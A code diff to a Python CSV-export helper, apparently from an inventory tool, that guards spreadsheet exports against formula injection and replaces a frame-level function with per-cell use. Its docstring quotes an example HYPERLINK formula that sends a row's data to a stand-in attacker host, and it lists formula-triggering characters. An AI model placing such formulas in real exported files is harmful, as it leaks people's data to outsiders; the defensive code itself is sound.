@@ -5,8 +5,10 @@ Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, 
 `=HYPERLINK("http://evil.example/?"&A2, "Open")` in an exported file becomes a live link
 that sends the row to someone else, or worse. Names, SKUs, titles and messages come from
 platform exports, webhooks and people, so every CSV LiveStock writes for a person to open
-goes through `neutralise_formulas` first (OWASP's advice on CSV injection): such a text cell
+goes through `neutralise_cell` first (OWASP's advice on CSV injection): such a text cell
 gets a leading `'`, which spreadsheets take as "this is text" and do not display.
+A table goes through it cell by cell and name by name:
+`frame.rename(columns=neutralise_cell).map(neutralise_cell).to_csv(...)`.
 
 Numbers stay numbers: int and float cells are left as they are, and so is text that is just
 a number ("-12.5", "+3", "1e-4"), which a spreadsheet reads as that number and never as a
@@ -18,8 +20,6 @@ numbers written as text, leaves tabs and carriage returns alone and does not fit
 from __future__ import annotations
 
 import re
-
-import pandas as pd
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 TEXT_MARK = "'"
@@ -37,13 +37,3 @@ def neutralise_cell(value: object) -> object:
         return TEXT_MARK + value
     return value
 
-
-def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
-    """A copy of `frame` whose text cells and column names no spreadsheet runs as formulas;
-    numeric and date columns are returned as they are."""
-    safe = frame.rename(columns=neutralise_cell)
-    for position in range(safe.shape[1]):
-        values = safe.iloc[:, position]
-        if pd.api.types.is_object_dtype(values) or pd.api.types.is_string_dtype(values):
-            safe.isetitem(position, values.map(neutralise_cell).to_list())
-    return safe
